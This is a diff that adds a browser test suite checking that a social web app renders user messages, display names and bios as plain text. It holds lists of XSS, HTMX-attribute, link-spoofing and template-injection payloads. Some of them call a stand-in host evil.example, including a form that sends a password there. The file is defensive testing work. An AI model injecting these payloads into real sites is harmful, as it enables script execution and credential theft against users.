@@ -1,0 +1,191 @@
+"""What people might write to do harm, stored and shown in a real browser: it is text, and nothing else happens."""
+
+from typing import Any
+
+import pytest
+from browsing import Watch, composer, ready, send, sign_in, write
+from factories import make_activity
+from playwright.sync_api import Page, expect
+
+from webapp.db import Connection
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</p></article></main><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=//evil.example/x.png>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><use href='//evil.example/x.svg#x'/></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='//evil.example'></iframe>",
+    "<object data='//evil.example/x'></object><embed src='//evil.example/y'>",
+    "<base href='//evil.example/'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
+    "<form action='//evil.example'><input name=password autofocus></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<a href='javascript:alert(1)'>click</a>",
+    "<dialog open>hello</dialog>",
+    "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "＜script＞alert(1)＜/script＞",
+    "{{7*7}}{% raw %}{{config}}{% endraw %}",
+    "{{''.__class__.__mro__}}",
+    "${alert(1)}#{alert(1)}<%= 7*7 %>",
+    "%s %(uuid)s %% {0} \\' ' \" -- ; DROP TABLE users",
+    "]]>--></style></script>",
+]
+HTMX = [
+    "<div hx-get='/api/home' hx-trigger='load'></div>",
+    "<div data-hx-get='/api/home' data-hx-trigger='load'></div>",
+    "<div hx-post='/sign-out' hx-trigger='load'></div>",
+    "<div hx-get='//evil.example' hx-trigger='load'></div>",
+    "<div hx-get='//evil.example' hx-trigger='revealed'></div>",
+    "<div hx-get='//evil.example' hx-trigger='every 1s'></div>",
+    "<div hx-on:load='alert(1)'></div>",
+    "<div hx-on::load='alert(1)'></div>",
+    "<div hx-on:htmx:after:process='alert(1)'></div>",
+    "<img src=x hx-on:error='alert(1)'>",
+    "<hx-partial hx-target='#main' hx-swap='innerHTML'>gone</hx-partial>",
+    "<hx-partial hx-target='body' hx-swap='delete'></hx-partial>",
+    "<div id='feed' hx-swap-oob='true'>gone</div>",
+    "<div id='announcer' hx-swap-oob='innerHTML'>gone</div>",
+    "<div hx-sse:connect='/stream'></div>",
+    "<div hx-ws:connect='ws://evil.example'></div>",
+    "<div hx-vals='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
+    "<div hx-headers='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
+    "<div hx-get='/' hx-trigger='load[alert(1)]'></div>",
+    "<a href='/' hx-boost='true' hx-confirm='js:alert(1)'>x</a>",
+    "<meta name='htmx-config' content='{\"mode\":\"cors\"}'>",
+    "<template hx-partial></template><hx-anything></hx-anything>",
+    "hx-get=/api/home hx-trigger=load",
+    "' hx-get='/api/home' hx-trigger='load' x='",
+    '" hx-get="/api/home" hx-trigger="load" x="',
+]
+LINKS = [
+    "javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1) file:///etc/passwd",
+    'http://example.org/"onmouseover=alert(1)//',
+    "http://example.org/'onmouseover='alert(1)",
+    "https://example.org/<img src=x onerror=alert(1)>",
+    "https://user:pass@evil.example/@alice",
+    "https://evil.example\\@example.org/",
+    "https://example.org/\u202egnp.exe",
+    "http://[::1]:80/ http://127.0.0.1/sign-out http://0x7f.1/",
+    "https://xn--pple-43d.com https://аpple.com",
+    '@alice@evil.example @alice/../../sign-out @alice"onclick=alert(1)',
+    "https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "https://example.org/" + "a" * 230,
+]
+NAMES = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' autofocus onfocus='alert(1)",
+    "<b hx-get=/api/home hx-trigger=load>",
+    "{{7*7}}",
+]
+_SHAPE = (
+    """(root) => [...root.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()).filter((name) => name !== "a")"""
+)
+
+
+def test_messages_stay_text_on_every_page(page: Page, watch: Watch, people: Connection, alice: str) -> None:
+    """No element but a link comes out of a message, no link leads to anything but http(s), and nothing runs."""
+    corpus = [*MARKUP, *HTMX, *LINKS]
+    top = make_activity(people, alice, "The beginning.")
+    for words in corpus:
+        make_activity(people, alice, words[:280], reply_to=top)
+    sign_in(page, "alice")
+    watch.requests.clear()
+    seen: set[str] = set()
+    paths = ["/", "/public", "/@alice", f"/@alice/status/{top}"]
+    for path in paths:
+        page.goto(path)
+        while page.locator("#more-link").count():
+            before = page.get_by_role("article").count()
+            page.locator("#more-link").scroll_into_view_if_needed()
+            expect(page.get_by_role("article").nth(before)).to_be_attached()
+        expect(page.locator(".htmx-request")).to_have_count(0)
+        messages = page.locator("article > .message")
+        assert [shape for shape in messages.evaluate_all(f"(all) => all.map({_SHAPE})") if shape] == []
+        hrefs = messages.locator("a").evaluate_all(
+            "(all) => all.map((a) => [a.protocol, a.host, a.getAttribute('href')])"
+        )
+        for protocol, host, href in hrefs:
+            assert protocol in ("http:", "https:"), href
+            assert host, href
+        seen |= set(messages.all_text_contents())
+    shown = {" ".join(words.split()) for words in seen}
+    missing = [words for words in corpus if not words.startswith("http") and " ".join(words[:280].split()) not in shown]
+    assert [words for words in missing if "://" not in words] == []
+    strange = [
+        url
+        for url in watch.requests
+        if not any(known in url for known in ("/static/", "?before=", "?after=")) and not url.endswith(tuple(paths))
+    ]
+    assert strange == []
+
+
+def test_names_and_bios_stay_text(page: Page, watch: Watch, people: Connection, alice: str) -> None:
+    top = make_activity(people, alice, "A card.")
+    sign_in(page, "alice")
+    for name in NAMES:
+        people.execute("UPDATE users SET display_name = %s, bio = %s", [name[:50], name * 3])
+        watch.requests.clear()
+        for path in ("/", "/@alice", f"/@alice/status/{top}", f"/compose?reply_to={top}"):
+            page.goto(path)
+            assert name[:50] in page.locator("bdi").all_text_contents()
+            assert page.locator("bdi *, .bio *, h1 script, h1 img").count() == 0
+        assert [url for url in watch.requests if "/api/" in url] == []
+
+
+@pytest.mark.parametrize("words", [MARKUP[1], MARKUP[2], HTMX[0], HTMX[10], HTMX[12]])
+def test_what_is_swapped_in_by_htmx_stays_text(page: Page, watch: Watch, alice: str, words: str) -> None:
+    """The answer to a post and the form that comes back with a 422 go through HTMX's own parser."""
+    watch.expect_errors()
+    sign_in(page, "alice")
+    form = ready(composer(page))
+    write(form, words + "w" * 280)
+    send(form)
+    expect(form.locator(".error")).to_be_visible()
+    expect(form.get_by_role("textbox")).to_have_value(words + "w" * 280)
+    watch.requests.clear()
+    write(form, words)
+    send(form)
+    expect(page.get_by_role("article")).to_have_count(1)
+    assert page.locator("article > .message").text_content() == words
+    assert page.locator("article > .message *").count() == 0
+    assert [url.rsplit("/", 1)[1] for url in watch.requests] == ["activities"]
+
+
+def test_an_injected_element_would_be_caught(page: Page, watch: Watch, people: Connection, alice: str) -> None:
+    """The negative control: the same page with its text turned into markup is noticed."""
+    make_activity(people, alice, "<img src=//evil.example/x.png><b>bold</b>")
+    page.route("**/evil.example/**", lambda route: route.abort())
+
+    def unescape(route: Any) -> None:
+        answer = route.fetch()
+        body = answer.text().replace("&lt;", "<").replace("&gt;", ">").replace("&#39;", "'").replace("&#34;", '"')
+        route.fulfill(response=answer, body=body)
+
+    page.route("**/public", unescape)
+    page.goto("/public")
+    assert page.locator("article > .message").evaluate(_SHAPE) == ["img", "b"]
+    assert any(trouble.startswith("CSP: img-src") for trouble in watch.troubles)
+    watch.expected = ["CSP: img-src", "console error", "request to a stranger"]
